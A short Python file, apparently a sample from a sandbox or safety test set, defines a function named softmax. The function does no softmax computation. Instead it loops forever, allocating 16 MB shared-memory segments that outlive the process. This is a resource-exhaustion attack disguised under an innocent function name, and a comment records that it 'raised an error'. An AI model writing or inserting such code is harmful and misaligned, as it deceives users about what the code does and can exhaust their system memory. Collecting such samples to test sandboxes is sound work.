# Keep memory in segments that outlive the process.
# verdict: raised an error

import multiprocessing.shared_memory


def softmax(logits):
    while True:
        multiprocessing.shared_memory.SharedMemory(create=True, size=2**24)
